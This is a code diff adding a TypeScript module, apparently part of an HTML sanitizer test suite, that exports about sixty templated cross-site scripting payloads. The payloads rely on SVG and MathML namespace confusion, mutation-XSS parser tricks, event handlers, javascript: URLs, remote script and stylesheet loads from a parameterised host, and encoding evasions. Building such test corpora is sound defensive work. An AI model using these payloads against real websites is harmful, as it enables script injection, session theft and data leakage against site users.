@@ -1,0 +1,75 @@
+import type { Attack } from './attack.js';
+
+/** Other namespaces, and markup that turns into something else when it is parsed a second time. */
+export const foreign: readonly Attack[] = [
+	({ call }) => `<svg onload="${call}">`,
+	({ call }) => `<svg/onload=${call}>`,
+	({ call }) => `<svg><script>${call}</script></svg>`,
+	({ call }) => `<svg><script href="data:text/javascript,${call}"></script></svg>`,
+	({ host }) => `<svg><script xlink:href="https://${host}/a.js"></script></svg>`,
+	({ call }) => `<svg><a xlink:href="javascript:${call}"><text y="20">x</text></a></svg>`,
+	({ call }) =>
+		`<svg><a><animate attributeName=href values=javascript:${call} /><text y=9>x</text></a></svg>`,
+	({ call }) => `<svg><set attributeName="onmouseover" to="${call}"/></svg>`,
+	({ call }) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
+	({ call }) => `<svg><animateTransform onbegin="${call}" attributeName=transform></svg>`,
+	({ call }) => `<svg><set onbegin="${call}" attributeName=x to=1></svg>`,
+	({ host }) => `<svg><image href="https://${host}/a.png"/></svg>`,
+	({ host }) => `<svg><image xlink:href="https://${host}/a.png" width=1 height=1 /></svg>`,
+	({ host }) => `<svg><feImage href="https://${host}/a.svg"/></svg>`,
+	({ host }) => `<svg><use href="https://${host}/a.svg#x"/></svg>`,
+	({ call }) =>
+		`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${call}'/></svg>#x"/></svg>`,
+	({ call }) => `<svg><foreignObject><img src=x onerror="${call}"></foreignObject></svg>`,
+	({ call }) => `<svg><foreignObject><iframe srcdoc="<script>parent.${call.slice(7)}</script>"></svg>`,
+	({ host }) => `<svg><style>@import "https://${host}/a.css";</style></svg>`,
+	({ host }) => `<svg><style>*{background:url(https://${host}/a.png)}</style></svg>`,
+	({ host }) => `<svg><rect width=9 height=9 fill="url(https://${host}/a.svg#g)"/></svg>`,
+	({ host }) => `<svg><text filter="url(https://${host}/f.svg#f)" y=9>x</text></svg>`,
+	({ host }) => `<?xml-stylesheet href="https://${host}/a.xsl"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
+	({ call }) => `<svg><desc><img src=x onerror="${call}"></desc></svg>`,
+	({ call }) => `<svg><title><img src=x onerror="${call}"></title></svg>`,
+	({ call }) => `<svg><style><img src=x onerror="${call}"></style></svg>`,
+	({ call }) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
+	({ call }) => `<svg><p><style><g title="</style><img src onerror=${call}>">`,
+	({ call }) => `<math><mtext></form><form><mglyph><style></math><img src onerror="${call}">`,
+	({ call }) =>
+		`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${call} src>">`,
+	({ call }) =>
+		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
+	({ call }) =>
+		`<math><mtext><table><mglyph><style><math><img src=x onerror="${call}"></style></table></math>`,
+	({ call }) => `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${call}"></style>`,
+	({ call }) => `<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror="${call}">`,
+	({ call }) => `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
+	({ call }) => `<math href="javascript:${call}"><mtext>x</mtext></math>`,
+	({ call }) => `<math><maction actiontype="statusline#javascript:${call}" xlink:href="javascript:${call}">x`,
+	({ call }) => `<math><mtext><img src=x onerror="${call}"></mtext></math>`,
+	({ call }) => `<math><ms><img src=x onerror="${call}"></ms></math>`,
+	({ call }) => `<math><mtext><script>${call}</script></mtext></math>`,
+	({ call }) => `<svg><noscript><p title="</noscript><img src=x onerror=${call}>"></svg>`,
+	({ call }) => `<noembed><svg><a title="</noembed><img src=x onerror=${call}>"></noembed>`,
+	({ call }) => `<noframes><p title="</noframes><img src=x onerror=${call}>"></noframes>`,
+	({ call }) => `<iframe><p title="</iframe><img src=x onerror=${call}>"></iframe>`,
+	({ call }) =>
+		`<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${call}>">`,
+	({ call }) =>
+		`<table><tr><td><svg></td><style><a title="</style><img src=x onerror=${call}>"></tr></table>`,
+	({ call }) => `<table><caption><svg><style><a alt="</style><img src=x onerror=${call}>"></caption></table>`,
+	({ call }) => `<a><table><a><img src=x onerror="${call}"></a></table></a>`,
+	({ call }) => `<p><svg></p><img src=x onerror="${call}"></svg>`,
+	({ call }) => `<x-element is="x" onx="${call}"><img is="x-img" src=x onerror="${call}"></x-element>`,
+	({ call }) => `${'<div>'.repeat(300)}<img src=x onerror="${call}">`,
+	({ call }) => `${'<svg><desc>'.repeat(40)}<style><img src=x onerror="${call}"></style>`,
+	({ call }) =>
+		`<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">${call}</handler></svg>`,
+	({ call }) => `<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${call}</x:script></html>`,
+	({ call }) =>
+		`<b><![CDATA[<img src=x onerror="${call}">]]></b><svg><![CDATA[><img src=x onerror="${call}">]]>`,
+	({ call }) => `<a title="&lt;/a&gt;&lt;img src=x onerror=${call}&gt;">x</a>`,
+	({ call }) => `&lt;img src=x onerror="${call}"&gt;`,
+	({ call }) => `&amp;lt;img src=x onerror="${call}"&amp;gt;`,
+	({ call }) => `\u003cimg src=x onerror="${call}"\u003e &#60;img src=x onerror=${call}&#62;`,
+	({ call }) => `+ADw-img src=x onerror=${call}+AD4-`,
+	({ call }) => `＜img src=x onerror="${call}"＞`,
+];
